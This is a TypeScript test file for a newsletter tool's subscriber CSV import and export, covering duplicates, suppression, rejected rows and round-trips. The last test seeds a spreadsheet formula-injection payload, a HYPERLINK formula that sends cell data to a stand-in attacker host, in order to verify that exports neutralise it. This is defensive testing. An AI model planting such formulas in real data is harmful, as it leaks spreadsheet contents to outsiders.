import {describe, expect, it} from 'vitest'
import {importReport, runSubscribersCommand} from '../../src/store/subscribers-command.js'
import {importSubscribers} from '../../src/store/import-subscribers.js'
import {parseCsv} from '../../src/store/parse-csv.js'
import {openStore} from '../../src/store/open-store.js'
import {newStoreLocation, openTestStore, storeKinds} from '../support/test-store.js'
import {addSubscriber, listSubscribers, removeSubscriber} from '../../src/store/subscriber-store.js'
import {makeDigestNewsroom} from '../support/digest-newsroom.js'
import {writeFile} from 'node:fs/promises'
import {join} from 'node:path'

const csv = [
  'email,name,tags',
  'ana@example.com,Ana Pereira,energy;ports',
  '"bo@example.com","Bo, the Reporter","energy finance"',
  'not-an-address,Nobody,',
  '',
  'ANA@example.com,,finance',
  '"cy@example.com","Cy ""Scoop"" Lee",',
  'dee@example.com,"Dee',
  'Line Two",',
  'gone@example.com,Gone,',
  'eve@example.com,Eve,energy,extra',
  ''
].join('\r\n')

describe.each(storeKinds)('importSubscribers (%s)', (kind) => {
  it('should account for every row: added, merged duplicates, suppressed kept and rejected rows with their lines', async () => {
    const store = await openTestStore(kind)
    await addSubscriber(store.db, {email: 'gone@example.com'})
    await removeSubscriber(store.db, 'gone@example.com')
    const summary = await importSubscribers(store.db, csv)
    expect(summary.rejected).toEqual([
      {line: 4, reason: 'Unexpected email address `not-an-address`, expected name@example.com'},
      {line: 8, reason: 'Unexpected control character U+000D in the name, expected a single line of text'},
      {line: 11, reason: 'Unexpected 4 cells, expected at most 3 (quote cells that contain commas)'}
    ])
    expect(summary.mergedDuplicates).toEqual([{line: 6, firstLine: 2}])
    expect(summary.suppressedKept).toEqual([{line: 10, email: 'gone@example.com'}])
    expect(summary).toMatchObject({rows: 8, added: 3, updated: 0, blankLines: 1})
    expect(summary.added + summary.mergedDuplicates.length + summary.suppressedKept.length + summary.rejected.length).toBe(summary.rows)
    const byEmail = Object.fromEntries((await listSubscribers(store.db)).map((s) => [s.email, s]))
    expect(byEmail['ana@example.com']).toMatchObject({tags: ['energy', 'finance', 'ports'], name: 'Ana Pereira'})
    expect(byEmail['bo@example.com']).toMatchObject({name: 'Bo, the Reporter', tags: ['energy', 'finance']})
    expect(byEmail['cy@example.com']?.name).toBe('Cy "Scoop" Lee')
    expect(byEmail['gone@example.com']?.status).toBe('unsubscribed')
    const lines: string[] = []
    importReport(summary, (line) => lines.push(line))
    expect(lines.at(-1)).toBe(
      'pressroom: imported 8 rows: added 3, updated 0, unchanged 0, merged duplicates 1, suppressed kept 1, unsubscribed 0, rejected 3, blank lines ignored 1'
    )
    await store.close()
  })

  it('should keep a name and tags on file when a later import leaves those cells empty', async () => {
    const store = await openTestStore(kind)
    await addSubscriber(store.db, {email: 'ana@example.com', name: 'Ana Silva', tags: ['ports']})
    const summary = await importSubscribers(store.db, 'email,name,tags\nana@example.com,,\n')
    expect(summary.unchanged).toBe(1)
    expect((await listSubscribers(store.db)).map(({email, name, tags}) => ({email, name, tags}))).toEqual([{email: 'ana@example.com', name: 'Ana Silva', tags: ['ports']}])
    await importSubscribers(store.db, 'email,name,tags\nana@example.com,Ana S.,energy\n')
    expect((await listSubscribers(store.db)).map(({name, tags}) => ({name, tags}))).toEqual([{name: 'Ana S.', tags: ['energy']}])
    await store.close()
  })

  it('should never re-activate a suppressed address, not even from an export that says active', async () => {
    const store = await openTestStore(kind)
    await addSubscriber(store.db, {email: 'gone@example.com'})
    await removeSubscriber(store.db, 'gone@example.com')
    const summary = await importSubscribers(store.db, 'email,status\ngone@example.com,active\n')
    expect(summary.suppressedKept).toHaveLength(1)
    expect((await listSubscribers(store.db))[0]?.status).toBe('unsubscribed')
    await store.close()
  })

  it('should refuse a file without an email column, and one that ends inside a quote, naming the line', async () => {
    const store = await openTestStore(kind)
    await expect(importSubscribers(store.db, 'mail,name\na@example.com,A\n')).rejects.toThrow(expect.objectContaining({code: 'IMPORT_INVALID'}))
    await expect(importSubscribers(store.db, 'email,name\na@example.com,"A\nb@example.com,B\n')).rejects.toThrow(/quoted cell that opens on line 2/)
    await store.close()
  })

  it('should round-trip through the subscribers command: import a file, export CSV that imports again', async () => {
    const newsroom = await makeDigestNewsroom([])
    const {dir} = newsroom
    const config = {...newsroom.config, database: await newStoreLocation(kind)}
    await writeFile(join(dir, 'list.csv'), 'email,name,tags,frequency\nana@example.com,"Pereira, Ana",energy ports,instant\nbad@,x,,\n')
    const out: string[] = []
    const ok = await runSubscribersCommand({action: 'import', file: 'list.csv'}, config, (line) => out.push(line), dir)
    expect(ok).toBe(false)
    expect(out[0]).toBe('  line 3: rejected: Unexpected email address `bad@`, expected name@example.com')
    await runSubscribersCommand({action: 'remove', email: 'bo@example.com'}, config, () => {}, dir)
    const exported: string[] = []
    await runSubscribersCommand({action: 'export'}, config, (line) => exported.push(line), dir)
    expect(exported).toEqual(['email,name,tags,status,frequency', 'ana@example.com,"Pereira, Ana",energy;ports,active,instant', 'bo@example.com,,,unsubscribed,daily'])
    const again = await openTestStore(kind)
    const summary = await importSubscribers(again.db, exported.join('\n'))
    expect(summary).toMatchObject({added: 1, unsubscribed: 1, rejected: []})
    expect((await listSubscribers(again.db)).map((s) => [s.status, s.frequency])).toEqual([['active', 'instant'], ['unsubscribed', 'daily']])
    await again.close()
  })

  it('should export no cell a spreadsheet would run as a formula, and import its own export as the values it was made from', async () => {
    const config = {...(await makeDigestNewsroom([])).config, database: await newStoreLocation(kind)}
    const store = await openStore(config.database)
    const people = [
      {email: '=1+1@example.com', name: '=HYPERLINK("https://evil.example/?"&A1,"Click")'},
      {email: '+31@example.com', name: '+31 20 555 0100'},
      {email: '-ana@example.com', name: '-Ana'},
      {email: 'at@example.com', name: '@ana'},
      {email: 'quoted@example.com', name: "'=already quoted"},
      {email: 'hooft@example.com', name: "'t Hooft"}
    ]
    for (const person of people) await addSubscriber(store.db, person)
    await store.close()
    const exported: string[] = []
    await runSubscribersCommand({action: 'export'}, config, (line) => exported.push(line))
    const cells = parseCsv(exported.join('\n')).flatMap((record) => record.cells)
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(exported).toContain(`'-ana@example.com,'-Ana,,active,daily`)
    expect(exported).toContain(`quoted@example.com,''=already quoted,,active,daily`)
    expect(exported).toContain(`hooft@example.com,'t Hooft,,active,daily`)
    const again = await openTestStore(kind)
    expect(await importSubscribers(again.db, exported.join('\n'))).toMatchObject({added: people.length, rejected: []})
    const imported = (await listSubscribers(again.db)).map(({email, name}) => ({email, name}))
    await again.close()
    expect(imported.sort((a, b) => a.email.localeCompare(b.email))).toEqual([...people].sort((a, b) => a.email.localeCompare(b.email)))
  })
})
